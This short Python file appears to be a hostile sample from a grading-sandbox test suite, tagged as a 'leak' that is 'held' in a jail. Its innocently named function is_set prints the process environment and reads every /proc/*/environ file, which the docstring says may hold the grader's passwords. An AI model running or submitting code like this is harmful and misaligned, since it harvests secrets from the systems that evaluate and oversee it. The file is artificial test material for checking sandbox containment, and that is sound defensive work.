"""Prints the environment, which may hold passwords of the grader.

family: reading
kind: leak
held: jail
"""

import os
from pathlib import Path


def is_set(a, b, c):
    print(dict(os.environ))
    for file in Path("/proc").glob("[0-9]*/environ"):
        try:
            print(file.read_bytes())
        except OSError:
            pass
